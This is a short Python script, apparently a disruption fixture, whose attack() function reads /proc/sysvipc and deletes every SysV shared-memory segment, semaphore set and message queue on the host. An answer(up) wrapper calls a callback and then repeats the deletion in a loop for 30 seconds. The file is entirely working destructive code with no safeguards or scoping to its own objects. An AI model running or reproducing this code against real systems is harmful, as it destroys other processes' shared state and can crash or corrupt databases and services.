"""Removes every SysV segment, semaphore and message queue that the kernel lists."""

import contextlib
import ctypes
import time

LIBC = ctypes.CDLL(None)
IPC_RMID = 0


def listed(kind):
    with contextlib.suppress(OSError), open(f"/proc/sysvipc/{kind}") as table:
        return [int(line.split()[1]) for line in list(table)[1:]]
    return []


def attack():
    for number in listed("shm"):
        LIBC.shmctl(number, IPC_RMID, None)
    for number in listed("sem"):
        LIBC.semctl(number, 0, IPC_RMID)
    for number in listed("msg"):
        LIBC.msgctl(number, IPC_RMID, None)


def answer(up):
    end = time.monotonic() + 30
    attack()
    up()
    while time.monotonic() < end:
        attack()
    return 42

